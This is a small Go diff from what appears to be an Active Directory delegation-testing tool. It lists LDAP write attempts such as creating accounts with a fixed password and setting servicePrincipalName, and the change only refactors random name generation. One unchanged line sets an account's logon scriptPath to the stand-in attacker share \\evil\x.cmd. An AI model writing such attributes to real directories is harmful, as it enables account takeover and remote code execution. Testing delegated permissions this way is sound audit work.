@@ -85,7 +85,7 @@ var attempts = []attempt{
 		request := newObject(d.newDN("Managed"), "user", "512")
 		request.Attribute("unicodePwd", []string{string(utf16LE(`"Correct-Horse-7!"`))})
 		request.Attribute("scriptPath", []string{`\\evil\x.cmd`})
-		request.Attribute("servicePrincipalName", []string{"http/" + lower(randomText(12))})
+		request.Attribute("servicePrincipalName", []string{"http/" + randomName(12)})
 		return conn.Add(request)
 	}},
 }
@@ -93,7 +93,7 @@ var attempts = []attempt{
 func newObject(dn, class, control string) *ldap.AddRequest {
 	request := ldap.NewAddRequest(dn, nil)
 	request.Attribute("objectClass", []string{class})
-	name := lower(randomText(12))
+	name := randomName(12)
 	if class == "computer" {
 		name += "$"
 	}
@@ -116,7 +116,7 @@ func create(where, class, control string) func(*delegated, *ldap.Conn) error {
 // on writes an attribute of a fresh account.
 func on(where, attribute, value string) func(*delegated, *ldap.Conn) error {
 	return func(d *delegated, conn *ldap.Conn) error {
-		return set(d.person(where), attribute, strings.ReplaceAll(value, "{random}", lower(randomText(12))))(conn)
+		return set(d.person(where), attribute, strings.ReplaceAll(value, "{random}", randomName(12)))(conn)
 	}
 }
 
